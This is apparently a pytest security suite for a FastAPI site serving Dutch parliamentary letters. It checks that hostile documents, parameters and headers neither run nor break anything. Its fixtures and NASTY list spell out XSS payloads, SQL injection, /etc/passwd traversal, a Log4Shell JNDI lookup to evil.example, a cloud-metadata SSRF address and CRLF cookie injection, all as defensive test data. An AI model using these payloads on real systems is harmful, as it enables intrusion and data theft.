"""Documents, parameters, headers and forms that mean harm: nothing runs, nothing breaks."""

import random
import string
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("fastapi", reason="the extra «serve» is not installed")

import docx
from fastapi.testclient import TestClient
from lxml import html

from griffier.ledger.library import Library
from griffier.serve.app import create_app
from griffier.serve.security import HEADERS, is_host
from griffier.serve.settings import Settings
from griffier.service.after import FOLLOW_UPS
from griffier.service.filing import file_all
from griffier.service.reading import read_all

BIDI = "\u202e\u2066\u200f"
SCRIPT = '<script>alert("x")</script><svg onload=alert(1)><a href="javascript:alert(2)">k</a>'
LETTER = f"""\
Aan de Voorzitter van de Tweede Kamer der Staten-Generaal

Den Haag, 4 maart 2021

Betreft: Verslag {SCRIPT} {BIDI}gnp.exe

Hierbij bied ik u het verslag aan van de Raad Buitenlandse Zaken van 1 maart 2021.

De Minister van Buitenlandse Zaken {SCRIPT},
S.A. {BIDI}Blok"><img src=x onerror=alert(3)>

Verslag van de Raad Buitenlandse Zaken van 1 maart 2021

Nederland verzocht Servië het visumbeleid aan te passen {SCRIPT}{BIDI}. Nederland benadrukte
het belang van vrije scheepvaart '"><script>alert(4)</script>. Polen verwelkomde het voorstel.
Nederland verwelkomde het voorstel van de Commissie. Ik zeg toe de Kamer vóór de zomer te
informeren. De prijs is {{{{ 7*7 }}}} {{% raise %}} ${{7*7}} <img src=x onerror=alert(5)>. Zie
javascript:alert(6) en data:text/html,<script>alert(7)</script>.
"""
PAGE = f"""<!doctype html><html><head><title>Verslag {SCRIPT} {BIDI}</title></head><body
onload="alert(1)"><p>Nederland verzocht Servië het visumbeleid aan te passen.</p>
<script>alert(8)</script><svg><script>alert(9)</script></svg><iframe src="javascript:alert(10)">
</iframe><p>Polen verwelkomde het voorstel &lt;script&gt;alert(11)&lt;/script&gt;.</p></body></html>
"""


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A library with letters that mean harm, under names that do as well."""
    place = tmp_path_factory.mktemp("hostile")
    letters = {
        f"{BIDI}fdp.<script>alert(1)<|script>.docx": LETTER,
        "a" * 240 + ".docx": LETTER.replace("4 maart 2021", "5 mei 2022").replace("vrije", "open"),
    }
    for name, text in letters.items():
        written = docx.Document()
        for paragraph in text.split("\n\n"):
            written.add_paragraph(paragraph.replace("\n", " "))
        written.save(str(place / name))
    evil = '"; filename=evil.html; x="\r\nSet-Cookie: a=b.html'
    (place / evil).write_text(PAGE, encoding="utf-8")
    paths = sorted(each for each in place.iterdir())
    with Library.open(place / "library", create=True) as library:
        filed = [*file_all(library, read_all(paths, 1), follow_ups=FOLLOW_UPS)]
    assert not [each for each in filed if isinstance(each.result, Exception)]
    return place / "library"


@pytest.fixture(scope="module")
def client(folder: Path) -> Iterator[TestClient]:
    with TestClient(create_app(Settings(library=str(folder), rate=0))) as opened:
        yield opened


def pages(client: TestClient) -> set[str]:
    """Every address of the site that pages lead to, feeds and all."""
    found: set[str] = set()
    waiting = ["/", "/search?q=visumbeleid", "/documents", "/changes", "/sign-in", "/review"]
    while waiting and len(found) < 150:
        path = waiting.pop(0).partition("#")[0]
        if path in found or not path.startswith("/") or path.startswith(("//", "/static")):
            continue
        found.add(path)
        answer = client.get(path)
        if answer.headers.get("content-type", "").startswith("text/html"):
            tree = html.fromstring(answer.text)
            waiting += [str(each) for each in tree.xpath("//@href|//@src")]
    return found


def test_hostile_documents_run_nothing_on_any_page(client: TestClient) -> None:
    addresses = pages(client)
    assert len([path for path in addresses if path.startswith("/statement/")]) >= 3
    for path in sorted(addresses):
        answer = client.get(path)
        assert answer.status_code < 500, path
        kind = answer.headers.get("content-type", "")
        if kind.startswith("text/html"):
            looked_at(path, answer.text)
        elif "/original" in path:
            assert kind == "application/octet-stream"
            told = answer.headers["content-disposition"]
            assert told.startswith('attachment; filename="')
            assert not set(told[22:-1]) & set('";\r\n<>/\\ ')
            assert "set-cookie" not in answer.headers
        for name in HEADERS:
            assert name in answer.headers, path


def looked_at(path: str, text: str) -> None:
    """Nothing that runs, nothing that leads elsewhere by script, nothing that turns around."""
    tree = html.fromstring(text)
    for script in tree.xpath("//script"):
        assert script.get("src", "").startswith("/static/enhance.js") or (
            script.get("type") == "application/ld+json"
        ), path
        assert "</" not in (script.text or ""), path
    events = tree.xpath("//@*[starts-with(name(), 'on')]")
    assert not events, path
    for where in tree.xpath("//@href|//@src|//@action|//@srcset"):
        assert not str(where).strip().lower().startswith(("javascript:", "data:", "vbscript:")), (
            path
        )
    assert not tree.xpath("//iframe|//object|//embed|//img[@src='x']"), path
    assert not set(text) & set("\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200f\u200e"), path


def test_templates_in_documents_are_not_filled_in(client: TestClient) -> None:
    cards = client.get("/api/v1/documents").json()["items"]
    pages = [client.get(f"/document/{card['id']}").text for card in cards]
    assert any("{{ 7*7 }} {% raise %} ${7*7}" in page for page in pages)


def test_json_and_feeds_hold_it_as_text(client: TestClient) -> None:
    answer = client.get("/api/v1/statements")
    assert answer.headers["content-type"] == "application/json"
    assert "<script>" in answer.text
    atom = client.get("/feed/search.atom", params={"q": "visumbeleid"})
    assert atom.headers["content-type"].startswith("application/atom+xml")
    assert b"<script" not in atom.content


NASTY = (
    "' OR 1=1 --",
    '"; DROP TABLE documents; --',
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "\x00",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "\u202e\ufeff\ud7ff",
    "é" * 300,
    "((((((((((((((((((((((((((((",
    "9" * 400,
    "-1",
    "1e999",
    "0000-00-00",
    "http://169.254.169.254/",
    "a\r\nSet-Cookie: x=y",
)
PATHS = (
    *("/document/{}", "/document/{}/original", "/document/{}/page/1.png", "/statement/{}"),
    *("/document/" + "0" * 64 + "/page/{}.png", "/meeting/{}", "/actor/{}", "/concept/{}"),
    *("/instrument/{}", "/alignment/{}", "/chart/asks/{}.svg", "/chart/visa/{}.svg"),
    *("/static/{}", "/feed/{}.atom", "/feed/actor/{}.{}", "/unsubscribe/{}", "/language/{}"),
    *("/api/v1/documents/{}", "/api/v1/meetings/{}", "/api/v1/export/{}", "/api/v1/visa/{}"),
)
QUERIES = (
    *("/search?q={}", "/search?q=a&sort={}", "/search?q=a&page={}", "/documents?kind={}"),
    *("/documents?after={}", "/documents?since={}", "/promises?on={}", "/promises?state={}"),
    *("/meetings?series={}", "/changes?before={}", "/review?of={}", "/sign-in?back={}"),
    *("/api/v1/statements?actor={}", "/api/v1/statements?limit={}", "/api/v1/search?q={}"),
    *("/api/v1/search?q=a&cursor={}", "/api/v1/statements?after={}", "/feed/search.atom?q={}"),
    *("/api/v1/judgements?document={}", "/?lang={}", "/chart/alignment/RS.svg?theme={}"),
)


@pytest.mark.parametrize("nasty", NASTY)
def test_no_parameter_breaks_anything(client: TestClient, nasty: str) -> None:
    from urllib.parse import quote

    value = quote(nasty.encode("utf-8", "surrogatepass"), safe="")
    for pattern in (*PATHS, *QUERIES):
        answer = client.get(pattern.replace("{}", value), follow_redirects=False)
        assert answer.status_code < 500 or answer.status_code == 501, (pattern, answer.text[:300])
        assert "root:" not in answer.text
        assert "set-cookie" not in answer.headers or "x=y" not in answer.headers["set-cookie"]
        there = answer.headers.get("location", "/")
        assert there.startswith("/")
        assert not there.startswith("//")
        if answer.headers.get("content-type", "").startswith("text/html"):
            looked_at(pattern, answer.text)


def test_no_header_reaches_another_host_or_breaks_anything(folder: Path) -> None:
    app = create_app(Settings(library=str(folder), rate=0, address="https://griffier.example"))
    with TestClient(app) as told:
        evil = {"Host": "evil.example", "X-Forwarded-Host": "evil.example"}
        text = told.get("/feed/search.atom?q=visumbeleid", headers=evil).text
        assert "evil.example" not in text
        assert told.get("/", headers={"Host": 'x"><script>'}).status_code == 400
        answer = told.get("/")
        assert answer.headers["Strict-Transport-Security"] == "max-age=31536000"
        for name in ("Accept-Language", "If-None-Match", "Cookie", "Range", "Referer", "Origin"):
            for nasty in (b"\xff\xfe", b"a" * 8000, b"*;q=nan, nl;q=" + b"9" * 400, b'W/"', b","):
                for path in ("/", "/api/v1/documents", "/static/style.css"):
                    answer = told.get(path, headers={name.encode(): nasty})  # type: ignore[dict-item]
                    assert answer.status_code < 500, (name, nasty, path)


@pytest.mark.parametrize(
    ("host", "fine"),
    [
        *(("griffier.example", True), ("a:8000", True), ("[::1]:80", True)),
        *(("", False), ("a/b", False), ("a b", False), ('a"', False), ("a:b", False)),
        ("a@evil.example", False),
    ],
)
def test_which_hosts_can_be(host: str, fine: bool) -> None:
    assert is_host(host) is fine


def test_a_request_that_takes_too_long_is_ended(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import threading

    from griffier.serve.pages import front

    done = threading.Event()
    real = front.overview.front

    def slow(*told: Any) -> Any:
        done.wait(20)
        return real(*told)

    monkeypatch.setattr(front.overview, "front", slow)
    app = create_app(Settings(library=str(folder), rate=0, most_seconds=1))
    with TestClient(app) as told:
        timer = threading.Timer(2.5, done.set)
        timer.start()
        answer = told.get("/")
        timer.join()
    assert answer.status_code == 503
    assert "longer than 1 seconds" in answer.text


METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "BREW")


def test_500_malformed_requests_are_never_our_fault(client: TestClient) -> None:
    made = random.Random(20221206)
    known = [each.replace("{}", "x") for each in (*PATHS, *QUERIES)]
    for number in range(500):
        method, path, body, headers = malformed(made, known)
        answer = client.request(method, path, content=body, headers=headers, follow_redirects=False)
        assert answer.status_code < 500, (number, method, path, headers, answer.text[:300])


def malformed(made: random.Random, known: list[str]) -> tuple[str, str, bytes, dict[str, str]]:
    """A request nobody who means well would make."""
    signs = string.ascii_letters + string.digits + "%/?&=+;:@!$'()*,~[]{}|^`\"<> \\"
    path = made.choice(known)
    for _ in range(made.randrange(4)):
        at = made.randrange(1, len(path) + 1)
        path = path[:at] + "".join(made.choices(signs, k=made.randrange(1, 9))) + path[at:]
    path = path.replace("#", "").replace(" ", "%20")
    body = made.choice([b"", b"{", b"[]", b"\x00\xff", b"a=b&seal=x", made.randbytes(200)])
    kinds = ("application/json", "application/x-www-form-urlencoded", "multipart/form-data", "x")
    headers = {"Content-Type": made.choice(kinds), "Accept-Language": made.choice(["nl", "q=;;"])}
    if made.random() < 0.2:
        headers["Authorization"] = made.choice(["Bearer x", "Basic", "Bearer grf_" + "a" * 43])
    return made.choice(METHODS), "/" + path.lstrip("/"), body, headers


def _asked(sought: list[Any]) -> Callable[[Any], None]:
    def asked(case: Any) -> None:
        case.call_and_validate(checks=sought)

    return asked


def test_the_whole_api_keeps_to_its_description(client: TestClient) -> None:
    """A few examples for each address; `SCHEMATHESIS=200` in the environment makes more."""
    import os

    schemathesis = pytest.importorskip("schemathesis", reason="the extra «test» has it")
    from hypothesis import HealthCheck, Phase, given, settings
    from schemathesis.checks import not_a_server_error
    from schemathesis.specs.openapi.checks import (
        content_type_conformance,
        response_schema_conformance,
    )

    checks = [not_a_server_error, content_type_conformance, response_schema_conformance]
    schema = schemathesis.openapi.from_asgi("/api/v1/openapi.json", client.app)
    most = int(os.environ.get("SCHEMATHESIS", "3"))
    operations = [each.ok() for each in schema.get_all_operations()]
    assert len(operations) >= 20
    for operation in operations:
        # Downloads are described by docs/data.md, not by a schema.
        sought = checks[:1] if "/export/" in operation.path else checks
        many = settings(
            max_examples=most,
            deadline=None,
            derandomize=True,
            phases=[Phase.generate],
            suppress_health_check=list(HealthCheck),
        )
        many(given(case=operation.as_strategy())(_asked(sought)))()
